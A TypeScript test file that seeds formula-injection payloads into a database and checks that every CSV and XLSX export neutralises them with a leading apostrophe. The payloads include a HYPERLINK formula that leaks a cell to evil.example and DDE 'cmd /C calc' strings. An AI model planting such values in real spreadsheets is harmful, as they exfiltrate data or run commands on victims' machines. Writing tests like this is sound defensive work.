/**
 * Formula injection in every CSV and XLSX the product writes, on SQLite and PostgreSQL: an agency
 * name, an object, a quote and a document number that Excel would run as formulas are written into
 * the database, then every export is downloaded over HTTP and parsed. No cell may start with
 * = + - @, tab or CR; each hostile value must be there, neutralised (so the test cannot pass on an
 * export that simply left the rows out).
 */
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createApp } from '../../server/app';
import { SESSION_COOKIE } from '../../server/auth/cookies';
import { createSession } from '../../server/auth/sessions';
import { createContextInner } from '../../server/context';
import { createCaller } from '../../server/routers/_app';
import { seedGazetteer } from '../../server/services/seed';
import { plainCell } from '../../server/spreadsheets/read-xlsx';
import type { SessionUser } from '../../shared/auth';
import { type TestDatabase, testDatabases } from '../support/databases';
import { seedLetterText } from '../support/fixtures';
import { makeUser } from '../support/users';

const HOSTILE = {
  agency: '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  object: "+cmd|' /C calc'!A0",
  quote: '@SUM(1+1)*cmd|" /C calc"!A0',
  docNumber: '-2+3',
  unit: '\t=1+1',
};
const FORMULA_START = /^[=+\-@\t\r]/;

async function xlsxTexts(bytes: ArrayBuffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes);
  const texts: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const value = plainCell(cell.value);
        // a formula cell is a finding by itself, whatever its text
        if (cell.formula) texts.push(`=${cell.formula}`);
        if (typeof value === 'string') texts.push(value);
      }),
    ),
  );
  return texts;
}

function csvTexts(text: string): string[] {
  const records: string[][] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });
  return records.flat();
}

for (const target of testDatabases) {
  describe.skipIf(target.skip)(`formula injection in every export on ${target.name}`, () => {
    let database: TestDatabase;
    let server: Server;
    let base = '';
    let cookie = '';
    let office: SessionUser;

    beforeAll(async () => {
      database = await target.open();
      const { db } = database;
      await seedGazetteer(db);
      office = await makeUser(db, 'office', 'office');
      const as = createCaller(
        createContextInner({ db, dialect: database.dialect, showDemo: true, publicRead: true, user: office }),
      );
      const { letterId } = await as.letters.ingest({ text: seedLetterText() });
      const letter = await as.letters.byId({ id: letterId });
      for (const commitment of letter.commitments)
        await as.review.confirm({ id: commitment.id, version: commitment.version });
      // what a letter or a clerk could put there, written directly: the exports must not trust it
      await db.updateTable('agencies').set({ name: HOSTILE.agency }).execute();
      await db.updateTable('letters').set({ doc_number: HOSTILE.docNumber }).execute();
      await db
        .updateTable('commitments')
        .set({ object: HOSTILE.object, quote: HOSTILE.quote, unit: HOSTILE.unit })
        .execute();
      const session = await createSession(db, office.id, new Date());
      cookie = `${SESSION_COOKIE}=${session.token}`;
      const app = createApp({ db, dialect: database.dialect, showDemo: true, publicRead: true });
      server = app.listen(0, '127.0.0.1');
      await new Promise<void>((resolve) => server.once('listening', resolve));
      base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    afterAll(async () => {
      await new Promise<void>((resolve) => server?.close(() => resolve()));
      await database?.close();
    });

    const download = async (path: string) => {
      const response = await fetch(`${base}${path}`, { headers: { cookie } });
      expect(response.status, path).toBe(200);
      return response;
    };

    const exports: [string, (r: Response) => Promise<string[]>, (keyof typeof HOSTILE)[]][] = [
      [
        '/reports/2015.csv',
        async (r) => csvTexts(await r.text()),
        ['agency', 'object', 'quote', 'docNumber'],
      ],
      [
        '/reports/2015.xlsx',
        async (r) => xlsxTexts(await r.arrayBuffer()),
        ['agency', 'object', 'quote', 'docNumber'],
      ],
      [
        '/files/progress-sheet.csv',
        async (r) => csvTexts(await r.text()),
        ['agency', 'object', 'quote', 'unit'],
      ],
      [
        '/files/progress-sheet.xlsx',
        async (r) => xlsxTexts(await r.arrayBuffer()),
        ['agency', 'object', 'quote', 'unit'],
      ],
    ];

    test.each(exports)(
      '%s: no cell starts a formula; hostile values go out with an apostrophe',
      async (path, read, expected) => {
        const texts = await read(await download(path));
        expect(texts.length).toBeGreaterThan(10);
        expect(texts.filter((t) => FORMULA_START.test(t))).toEqual([]);
        for (const key of expected) expect(texts, key).toContain(`'${HOSTILE[key]}`);
      },
    );
  });
}
